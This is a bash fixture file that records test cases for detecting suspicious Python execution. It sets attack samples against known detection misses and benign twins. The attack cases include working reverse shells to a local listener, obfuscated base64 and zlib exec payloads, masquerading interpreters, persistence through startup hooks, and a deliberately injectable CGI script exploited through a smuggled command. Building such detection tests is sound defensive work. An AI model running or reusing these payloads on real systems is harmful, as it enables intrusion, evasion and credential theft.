# shellcheck shell=bash
# The cases of Strategies/python-execution; sourced by scripts/record-telemetry, which says what
# record, $before and the options of a case mean.

# ---------------------------------------------------------------- Python: attacks

record python-execution inline-os-system <<'EOF'
python3 -c "import os; os.system('echo Test > /tmp/test.txt')"
EOF

record python-execution inline-os-system-enriched enriched <<'EOF'
python3 -c "import os; os.system('echo Test > /tmp/test.txt')"
EOF

record python-execution script-runs-shell <<'EOF'
cat > script.py <<'END'
import os
os.system("echo Script Execution > /tmp/script_test.txt")
END
python3 script.py
EOF

record python-execution python-runs-python <<'EOF'
python3 -c "import subprocess, sys; subprocess.run([sys.executable, '-c', 'import os; os.system(\"echo Executable Test > /tmp/executable_test.txt\")'])"
EOF

record python-execution compiled-bytecode <<'EOF'
echo 'import subprocess; subprocess.call("id > /tmp/id.txt; uname -a >> /tmp/id.txt", shell=True)' > update.py
python3 -m py_compile update.py
mv __pycache__/update.cpython-*.pyc update.pyc
rm update.py
python3 update.pyc
EOF

record python-execution inline-pty-spawn <<'EOF'
python3 -c 'import os,pty; pty.spawn(["/bin/sh", "-c", "id; tty"])'
EOF

record python-execution script-pty-spawn tty 'stdin=id\nexit\n' <<'EOF'
cat > pty_example.py <<'END'
import pty

def spawn_shell():
    pty.spawn("/bin/bash")

spawn_shell()
END
python3 pty_example.py
EOF

pty_fork() {
  cat <<'EOF'
cat > pty_example.py <<'END'
import os
import pty
import subprocess

def spawn_shell():
    child_pid, fd = pty.fork()
    if child_pid == 0:
        subprocess.call(["/bin/bash", "-c", "id"])
        os._exit(0)
    try:
        while os.read(fd, 1024):
            pass
    except OSError:
        pass
    os.waitpid(child_pid, 0)

spawn_shell()
END
python3 pty_example.py
EOF
}
record python-execution script-pty-fork tty forks < <(pty_fork)
record python-execution script-pty-fork-without-fork-records tty < <(pty_fork)

record python-execution code-from-pipe <<'EOF'
echo 'import os; os.system("id")' > stage2
cat stage2 | python3 -
EOF

record python-execution code-from-here-document <<'EOF'
python3 <<'END'
import subprocess
subprocess.call("id; hostname -s >/dev/null", shell=True)
END
EOF

record python-execution encoded-inline-code <<'EOF'
python3 -c 'import base64;exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkID4gL3RtcC9pZC50eHQiKQ=="))'
EOF

record python-execution layered-inline-code <<'EOF'
python3 -c "exec(__import__('zlib').decompress(__import__('base64').b64decode('eJzLzC3ILypRyC/myi/WK64sLknN1VDPTFGwU9AvyS3Qz0zRK6koUdfkAgAk+Q1b')))"
EOF

record python-execution script-in-shared-memory <<'EOF'
cat > /dev/shm/.x.py <<'END'
import socket
print(socket.gethostbyname("localhost"))
END
python3 /dev/shm/.x.py
cd /tmp
echo 'print(open("/etc/passwd").readline())' > payload.py
python3 payload.py
EOF

record python-execution copied-interpreter <<'EOF'
mkdir -p .cache/dbus
cp /usr/bin/python3.11 .cache/dbus/dbus-helper
.cache/dbus/dbus-helper -c 'import os; print(os.getuid())'
EOF

record python-execution disguised-argv0 <<'EOF'
exec -a '[kworker/0:1]' python3 -c 'import os; print(os.getuid())'
EOF

listener='import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", 4444)); s.listen(1)
c, a = s.accept(); c.sendall(b"id\nexit\n"); c.settimeout(5)
while c.recv(1024): pass'
listen_before="python3 -c '$listener' & sleep 1"

before=$listen_before
record python-execution inline-reverse-shell <<'EOF'
python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("127.0.0.1",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);'
EOF

before=$listen_before
record python-execution script-reverse-shell <<'EOF'
cat > sync.py <<'END'
import socket, os, pty
s = socket.create_connection(("127.0.0.1", 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/bash")
END
python3 sync.py
EOF

before=$listen_before
record python-execution script-becomes-reverse-shell <<'EOF'
cat > sync.py <<'END'
import socket, os
s = socket.create_connection(("127.0.0.1", 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execl("/bin/sh", "sh")
END
python3 sync.py
EOF

record python-execution file-server-module <<'EOF'
python3 -m http.server --bind 127.0.0.1 8123 &
sleep 1
curl -s http://127.0.0.1:8123/ -o /dev/null
kill %1
EOF

record python-execution startup-hook-written <<'EOF'
site=$(python3 -m site --user-site)
mkdir -p "$site"
echo 'import os; os.environ.setdefault("LAB", "1")' > "$site/usercustomize.py"
echo 'import os; os.environ.setdefault("LAB", "2")' > "$site/telemetry.pth"
python3 -c 'import os; print(os.environ["LAB"])'
EOF

record python-execution wrapped-inline-code <<'EOF'
timeout 5 python3 -c 'import os; os.system("id")'
nohup python3 -c 'import os; os.popen("id").read()'
env PATH=/usr/local/bin:/usr/bin python3 -c '__import__("os").system("id")'
nice -n 5 /usr/bin/python3.11 -Ic 'from subprocess import run; run("id", shell=True)'
EOF

record python-execution sudo-inline-code enriched <<'EOF'
sudo python3 -c 'import os; os.setuid(0); os.system("id")'
EOF

before='install -d -o www-data /srv/app/www/cgi-bin'
record python-execution web-server-account enriched user=www-data <<'EOF'
cat > www/cgi-bin/ping <<'END'
#!/bin/sh
echo "Content-Type: text/plain"
echo
eval "echo checking $QUERY_STRING"
END
chmod +x www/cgi-bin/ping
busybox httpd -f -p 127.0.0.1:8124 -h www &
sleep 1
curl -s 'http://127.0.0.1:8124/cgi-bin/ping?x;echo${IFS}aW1wb3J0IG9zCnByaW50KG9zLmdldHVpZCgpKQo=|base64${IFS}-d|python3${IFS}-'
kill %1
EOF

record python-execution hidden-name-in-inline-code <<'EOF'
python3 -c "o = __import__('so'[::-1]); getattr(o, 'sys' + 'tem')('id')"
EOF

record python-execution inline-code-in-container containers <<'EOF'
docker run --rm --network none lab/python:3.11 python3 -c 'import os; os.system("id; cat /proc/version")'
EOF

# ---------------------------------------------------------------- Python: known misses

record python-execution renamed-interpreter-runs-script <<'EOF'
mkdir -p .cache/dbus
cp /usr/bin/python3.11 .cache/dbus/dbus-helper
echo 'print(open("/etc/passwd").readline())' > .cache/dbus/session.conf
.cache/dbus/dbus-helper .cache/dbus/session.conf
EOF

record python-execution script-without-children <<'EOF'
cat > collect.py <<'END'
import glob, zipfile
with zipfile.ZipFile("backup.zip", "w") as z:
    for name in glob.glob("/etc/ssh/*.pub") + ["/etc/passwd"]:
        z.write(name)
END
python3 collect.py
EOF

record python-execution startup-hook-under-known-name <<'EOF'
site=$(python3 -m site --user-site)
mkdir -p "$site"
echo 'import os; os.environ.setdefault("LAB", "3")' > "$site/distutils-precedence.pth"
EOF

# ---------------------------------------------------------------- Python: benign twins

record python-execution application-script user=deploy <<'EOF'
cat > /srv/app/report.py <<'END'
import csv, sys
rows = list(csv.reader(open("/srv/app/data.csv")))
print(len(rows), file=sys.stderr)
END
printf 'a,b\n1,2\n' > /srv/app/data.csv
cd /srv/app
python3 /srv/app/report.py
python3 report.py
EOF

record python-execution application-script-runs-shell user=deploy <<'EOF'
cat > /srv/app/rotate.py <<'END'
import os
os.system("ls -l /srv/app > /srv/app/listing")
END
python3 /srv/app/rotate.py
EOF

site=/srv/app/venv/lib/python3.11/site-packages
before="mkdir -p $site; chown -R deploy /srv/app/venv"
record python-execution virtual-environment user=deploy "watch=$site/distutils-precedence.pth" <<'EOF'
python3 -m venv /srv/app/venv
/srv/app/venv/bin/python --version
/srv/app/venv/bin/pip --version
EOF

record python-execution version-queries user=deploy <<'EOF'
python3 --version
python3 -V
python3 -m pip --version
python3 -c 'import sys; print(sys.version)'
EOF

record python-execution json-on-standard-input user=deploy <<'EOF'
echo '{"b": 1, "a": [2, 3]}' > data.json
python3 -m json.tool < data.json
cat data.json | python3 -c 'import json,sys; print(json.load(sys.stdin)["b"])'
EOF

record python-execution unit-tests user=deploy <<'EOF'
mkdir -p /srv/app/tests
cat > /srv/app/tests/test_sum.py <<'END'
import unittest

class Sum(unittest.TestCase):
    def test_sum(self):
        self.assertEqual(sum([1, 2]), 3)
END
cd /srv/app
python3 -m unittest discover -s tests
EOF

record python-execution script-runs-tools user=deploy <<'EOF'
cat > /srv/app/revision.py <<'END'
import subprocess
print(subprocess.run(["git", "--version"], capture_output=True, text=True).stdout)
print(subprocess.check_output(["ls", "/srv/app"], text=True))
END
python3 /srv/app/revision.py
EOF

record python-execution decode-only-one-liner user=deploy <<'EOF'
python3 -c 'import base64,sys; print(base64.b64decode(sys.argv[1]).decode())' aGVsbG8=
python3 -c 'import socket; print(socket.getfqdn("localhost"))'
EOF

record python-execution interactive-interpreter user=deploy tty 'stdin=2 + 2\nexit()\n' <<'EOF'
python3 -q
EOF

record python-execution service-client user=deploy <<'EOF'
mkdir -p /srv/app/public && echo ok > /srv/app/public/health
cd /srv/app/public
busybox httpd -f -p 127.0.0.1:8125 -h /srv/app/public &
sleep 1
cat > /srv/app/probe.py <<'END'
import subprocess, urllib.request
print(urllib.request.urlopen("http://127.0.0.1:8125/health").read())
subprocess.run(["/bin/sh", "-c", "date > /srv/app/last-probe"])
END
python3 /srv/app/probe.py
kill %1
EOF
